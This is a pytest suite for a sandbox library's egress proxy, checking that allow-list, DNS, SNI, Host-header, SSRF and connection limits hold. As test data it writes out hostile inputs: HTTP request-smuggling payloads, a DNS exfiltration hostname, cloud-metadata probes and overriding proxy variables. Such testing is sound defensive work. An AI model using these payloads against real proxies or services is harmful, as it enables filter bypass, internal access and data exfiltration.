"""Governed egress on a ``none`` sandbox: the allow-list proxy on its own loopback.

Every case runs with both owners — the supervisor and ``InProcessOwner`` — since the proxy
lives with whoever owns the lease. The upstreams are the tier's stand-in servers; each records
what reached it, and the DNS witness records what was looked up.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

import sbxkit
from sbxkit._lifecycle.owner import InProcessOwner
from sbxkit._model.network_terms import Network
from sbxkit._model.result import RunResult
from sbxkit._model.settings import Settings
from sbxkit.backends.docker import DockerBackend
from sbxkit.engine.client import Engine
from sbxkit.errors import SpecError
from tests.network.conftest import supervised
from tests.network.payloads import FETCH, RAW, TUNNEL, command, output
from tests.network.servers import (
    ALLOWED,
    DENIED,
    LITERAL,
    METADATA,
    NAIVE_PORT,
    OTHER_NAME,
    PRIVATE,
    UNKNOWN,
    DnsWitness,
    Servers,
)
from tests.supervision import SupervisorProcess
from tests.witness import PYTHON


def governed(servers: Servers, argv: list[str], **network: Any) -> sbxkit.SandboxSpec:
    return sbxkit.SandboxSpec(
        image=PYTHON,
        command=argv,
        env={"TEST_CA": servers.ca_pem},
        limits=sbxkit.Limits(
            cpus=1, memory_bytes=128 * sbxkit.MiB, pids=64, output_bytes=sbxkit.MiB, timeout_s=60
        ),
        network=Network(**network),
    )


async def fetch(
    backend: DockerBackend, servers: Servers, *urls: str, **network: Any
) -> tuple[RunResult, Any]:
    result = await backend.run_once(governed(servers, command(FETCH, *urls), **network))
    assert result.status == "exited", result
    assert result.exit_code == 0, result.stderr
    return result, output(result.stdout)


async def test_allowed_https_and_http_by_name_go_through(
    backend: DockerBackend, servers: Servers, dns: DnsWitness
) -> None:
    https, http = f"https://{ALLOWED}/tool", f"http://{ALLOWED}/page?q=1"
    result, got = await fetch(backend, servers, https, http, allow=[f"{ALLOWED}"])
    assert got[https] == [200, f"A {ALLOWED} /tool"]
    assert got[http] == [200, f"A {ALLOWED} /page?q=1"]
    assert result.denials == ()
    # the upstream saw sbxkit's host-side connections, by the names the sandbox asked for
    assert {(host, path) for host, path, _ in servers.seen["a"].requests} == {
        (ALLOWED, "/tool"),
        (ALLOWED, "/page?q=1"),
    }
    assert dns.seen() == []  # both names came from the tier's hosts file, as configured


async def test_a_denied_name_is_refused_logged_and_never_resolved(
    backend: DockerBackend, servers: Servers, dns: DnsWitness
) -> None:
    denied, unknown = f"https://{DENIED}/secret", f"https://{UNKNOWN}/x"
    exfil = "https://c2VjcmV0.exfil.sbxkit.test/"  # in no hosts file: only DNS could answer
    result, got = await fetch(
        backend, servers, denied, f"http://{DENIED}/", unknown, exfil, allow=[ALLOWED, UNKNOWN]
    )
    assert got[denied][0] == "error"
    assert "403" in got[denied][1]
    assert got[f"http://{DENIED}/"] == [403, "sbxkit: not on the allow-list\n"]
    assert servers.seen["b"].requests == []
    assert [(d.destination, d.reason) for d in result.denials][:2] == [
        (f"{DENIED}:443", "not on the allow-list"),
        (f"{DENIED}:80", "not on the allow-list"),
    ]
    # the allowed name no hosts file knows was looked up (the witness works) ...
    assert UNKNOWN in dns.seen()
    assert any("cannot resolve" in d.reason for d in result.denials)
    # ... and the denied names never were: a refused name carries nothing out through DNS
    assert not any("exfil" in query or DENIED in query for query in dns.seen())
    assert got[exfil][0] == "error"


async def test_inside_there_is_no_route_and_no_resolver(
    backend: DockerBackend, servers: Servers, dns: DnsWitness
) -> None:
    probe = r"""
import json, socket
out = {}
for name, target in (("ip", ("192.0.2.10", 80)), ("gateway", ("10.0.0.1", 80))):
    try:
        socket.create_connection(target, timeout=5); out[name] = "connected"
    except OSError as error:
        out[name] = error.errno
for name in ("allowed.sbxkit.test", "exfil-secret.example.com"):
    try:
        socket.getaddrinfo(name, 443); out[name] = "resolved"
    except OSError as error:
        out[name] = "failed"
print(json.dumps(out))
"""
    result = await backend.run_once(governed(servers, command(probe), allow=[ALLOWED]))
    got = output(result.stdout)
    assert got["ip"] == 101  # ENETUNREACH: the sandbox has only loopback
    assert got["gateway"] == 101
    assert got["allowed.sbxkit.test"] == "failed"
    assert got["exfil-secret.example.com"] == "failed"
    assert dns.seen() == []  # nothing inside can reach any resolver
    assert servers.seen["a"].requests == []


async def test_sni_must_be_the_connect_host(backend: DockerBackend, servers: Servers) -> None:
    spec = governed(servers, command(TUNNEL, ALLOWED, "443", OTHER_NAME), allow=[ALLOWED])
    result = await backend.run_once(spec)
    verdict, detail = output(result.stdout)
    assert verdict == "failed", detail
    assert servers.seen["a"].requests == []  # the fronted request never reached the server
    assert result.denials[-1].reason == (
        f"the TLS server name {OTHER_NAME!r} is not the CONNECT host {ALLOWED!r}"
    )
    # the same tunnel naming its own host goes through: the mismatch was the reason
    same = governed(servers, command(TUNNEL, ALLOWED, "443", ALLOWED), allow=[ALLOWED])
    verdict, detail = output((await backend.run_once(same)).stdout)
    assert verdict == "ok"
    assert f"A {ALLOWED} /" in detail


async def test_host_must_be_the_uri_authority(backend: DockerBackend, servers: Servers) -> None:
    request = f"GET http://{ALLOWED}/ HTTP/1.1\\r\\nHost: {DENIED}\\r\\n\\r\\n"
    result = await backend.run_once(governed(servers, command(RAW, request), allow=[ALLOWED]))
    reply = output(result.stdout)
    assert reply.startswith("HTTP/1.1 400 ")
    assert "differs from the request target" in reply
    assert servers.seen["a"].requests == []
    assert servers.seen["b"].requests == []
    assert result.denials[0].destination == f"{ALLOWED}:80"


async def test_a_name_resolving_to_a_private_address_is_refused(
    backend: DockerBackend, servers: Servers
) -> None:
    private, metadata = f"http://{PRIVATE}/", f"http://{METADATA}/latest/meta-data/"
    literal = f"http://{LITERAL}/ok"
    result, got = await fetch(
        backend, servers, private, metadata, literal, allow=[PRIVATE, METADATA, f"{LITERAL}:80"]
    )
    assert got[private][0] == 403
    assert "10.0.0.5 is private (RFC 1918)" in got[private][1]
    assert got[metadata][0] == 403
    assert "link-local" in got[metadata][1]
    # an entry that is the literal address reaches it
    assert got[literal] == [200, f"C {LITERAL} /ok"]
    assert len(result.denials) == 2


async def test_connections_and_bytes_are_bounded(backend: DockerBackend, servers: Servers) -> None:
    big = f"http://{ALLOWED}/big"
    result, got = await fetch(
        backend, servers, big, allow=[ALLOWED], max_connection_bytes=64 * 1024
    )
    assert got[big][0] == "error"  # cut short: the body never completed
    assert len(servers.seen["a"].requests) == 1
    hold = r"""
import json, socket
first = socket.create_connection(("127.0.0.1", 3128), timeout=10)
second = socket.create_connection(("127.0.0.1", 3128), timeout=10)
second.sendall(b"GET http://allowed.sbxkit.test/ HTTP/1.1\r\nHost: allowed.sbxkit.test\r\n\r\n")
print(json.dumps(second.recv(4096).decode()))
"""
    result = await backend.run_once(
        governed(servers, command(hold), allow=[ALLOWED], max_connections=1)
    )
    assert output(result.stdout).startswith("HTTP/1.1 503 ")
    assert "connections already" in result.denials[0].reason


async def test_every_decision_is_one_audit_line(
    engine: Engine, supervisor: SupervisorProcess, servers: Servers, tmp_path: Path
) -> None:
    log = tmp_path / "egress.jsonl"
    backend = supervised(supervisor, engine, network_audit_log=str(log))
    allowed, denied = f"http://{ALLOWED}/a", f"http://{DENIED}/b"
    result, _ = await fetch(backend, servers, allowed, denied, allow=[ALLOWED])
    lines = sorted(
        (json.loads(line) for line in log.read_text().splitlines()),
        key=lambda line: line["verdict"],  # an allowed line is written when its connection ends
    )
    assert [(line["destination"], line["verdict"]) for line in lines] == [
        (f"{ALLOWED}:80", "allowed"),
        (f"{DENIED}:80", "denied"),
    ]
    assert lines[0]["sandbox"] == result.lease
    assert lines[0]["bytes_up"] > 0
    assert lines[0]["bytes_down"] > len(f"A {ALLOWED} /a")
    assert lines[0]["address"] == "192.0.2.10"
    assert lines[1]["reason"] == "not on the allow-list"
    assert log.stat().st_mode & 0o777 == 0o600


async def test_owned_variables_cannot_be_overridden(
    backend: DockerBackend, servers: Servers
) -> None:
    keys = ("HTTPS_PROXY", "https_proxy", "NO_PROXY", "ALL_PROXY", "SBXKIT_ENDPOINT")
    show = (
        "import json, os; print(json.dumps({k: os.environ.get(k) for k in "
        f"{(*keys, 'SBXKIT_TLS_KEY')!r}}}))"
    )
    spec = governed(servers, command(show), allow=[ALLOWED])
    hostile = {
        "HTTPS_PROXY": "http://198.51.100.10:3128",
        "https_proxy": "http://198.51.100.10:3128",
        "NO_PROXY": "*",
        "SBXKIT_ENDPOINT": "http://198.51.100.10:1",
        "SBXKIT_TLS_KEY": "/tmp/mine.pem",
    }
    spec = msgspec.structs.replace(spec, env={**spec.env, **hostile})
    got = output((await backend.run_once(spec)).stdout)
    assert got == {
        "HTTPS_PROXY": "http://127.0.0.1:3128",
        "https_proxy": "http://127.0.0.1:3128",
        "NO_PROXY": "localhost,127.0.0.1,::1",
        "ALL_PROXY": "http://127.0.0.1:3128",
        "SBXKIT_ENDPOINT": None,
        "SBXKIT_TLS_KEY": None,
    }


async def test_a_gated_run_keeps_its_stdin_byte_exact(
    backend: DockerBackend, servers: Servers
) -> None:
    data = bytes(range(256)) * 400 + b"\nno newline at the end"
    spec = governed(servers, ["sh", "-c", "cat | sha256sum"], allow=[ALLOWED])
    result = await backend.run_once(spec, data)
    import hashlib

    assert result.stdout.split()[0].decode() == hashlib.sha256(data).hexdigest()


async def test_refused_before_anything_is_created(
    backend: DockerBackend, servers: Servers, witness: Any
) -> None:
    import time

    began = time.time()
    bad = [
        (
            {"callback": "http://localhost:8080", "tls": {"ca": str(servers.client_bundle["ca"])}},
            "network.tls",
        ),
        ({"allow": ["https://pypi.org"]}, "network.allow[0]"),
        (
            {"callback": "https://localhost:9443", "tls": {"ca": "/nonexistent/ca.pem"}},
            "network.tls.ca",
        ),
    ]
    for network, field in bad:
        spec = msgspec.convert(
            {**msgspec.to_builtins(governed(servers, ["true"])), "network": network},
            sbxkit.SandboxSpec,
        )
        with pytest.raises(SpecError) as info:
            await backend.run_once(spec)
        assert info.value.field == field
    creates = witness.events(began, time.time() + 1, type=["container"], event=["create"])
    assert creates == []


SMUGGLED = f"GET /smuggled HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"
CHUNK = f"{len(SMUGGLED):x}\r\n"
NAIVE = f"{ALLOWED}:{NAIVE_PORT}"


def _post(path: str, *lines: str, body: str = "") -> str:
    return "\r\n".join([f"POST http://{NAIVE}{path} HTTP/1.1", f"Host: {NAIVE}", *lines, "", body])


DESYNCS = {
    # the finding: h11 frames the body by the coding, the upstream by the length — the chunk
    # after CHUNK's size line is a whole request of its own there, for a denied name
    "both": _post(
        "/first",
        f"Content-Length: {len(CHUNK)}",
        "Transfer-Encoding: chunked",
        body=f"{CHUNK}{SMUGGLED}\r\n0\r\n\r\n",
    ),
    "two lengths": _post("/two", "Content-Length: 4", "Content-Length: 4", body="abcd"),
    "a length list": _post("/list", "Content-Length: 4, 4", body="abcd"),
    "folded": _post("/folded", "Transfer-Encoding:", " chunked", body="4\r\nabcd\r\n0\r\n\r\n"),
}
CLEAR = {
    "length": _post("/length", "Content-Length: 4", body="abcd"),
    "chunked": _post("/chunked", "Transfer-Encoding: chunked", body="4\r\nabcd\r\n0\r\n\r\n"),
}

SEND_EACH = r"""
import json, socket, sys
replies = {}
for name, request in json.loads(sys.argv[1]).items():
    connection = socket.create_connection(("127.0.0.1", 3128), timeout=15)
    connection.sendall(request.encode("latin-1"))
    reply = b""
    while chunk := connection.recv(65536):
        reply += chunk
    replies[name] = reply.decode("latin-1")
print(json.dumps(replies))
"""
"""``python3 -c SEND_EACH JSON``: each named raw request on a connection of its own, in order."""


@pytest.mark.parametrize("owner", ["supervised", "in_process"])
async def test_an_ambiguous_framing_is_refused_and_never_reaches_the_upstream(
    owner: str,
    engine: Engine,
    supervisor: SupervisorProcess,
    servers: Servers,
    tmp_path: Path,
) -> None:
    """Issue 38, finding 5: a hostile payload smuggles a request for a denied name inside one
    for an allowed name. The upstream (servers.NaiveUpstream) would read two requests; it
    reads none, each ambiguous request is a 400 and a denial in the audit log, and the clear
    ones beside them go through."""
    log = tmp_path / "egress.jsonl"
    if owner == "supervised":
        backend = supervised(supervisor, engine, network_audit_log=str(log))
    else:
        settings = Settings(network_audit_log=str(log))
        backend = DockerBackend(engine=engine, owner=InProcessOwner(engine), settings=settings)
    requests = {**CLEAR, **DESYNCS}
    spec = governed(servers, command(SEND_EACH, json.dumps(requests)), allow=[NAIVE])
    result = await backend.run_once(spec)
    assert result.exit_code == 0, result.stderr
    replies = output(result.stdout)
    seen = servers.naive.seen()
    assert not [request for request in seen if request[2] != NAIVE], seen  # nothing smuggled
    assert seen == [
        ("POST", "/length", NAIVE, b"abcd"),
        ("POST", "/chunked", NAIVE, b"abcd"),
    ]
    for name in CLEAR:
        assert replies[name].startswith("HTTP/1.1 200 "), replies[name]
    for name in DESYNCS:
        assert replies[name].startswith("HTTP/1.1 400 "), (name, replies[name])
        assert "ambiguous message framing" in replies[name]
    assert [(d.destination, d.kind) for d in result.denials] == [(NAIVE, "http")] * len(DESYNCS)
    assert "both Content-Length and Transfer-Encoding" in result.denials[0].reason
    denied = [
        line
        for line in map(json.loads, log.read_text().splitlines())
        if line["verdict"] == "denied"
    ]
    assert [line["destination"] for line in denied] == [NAIVE] * len(DESYNCS)
    assert all("ambiguous message framing" in line["reason"] for line in denied)
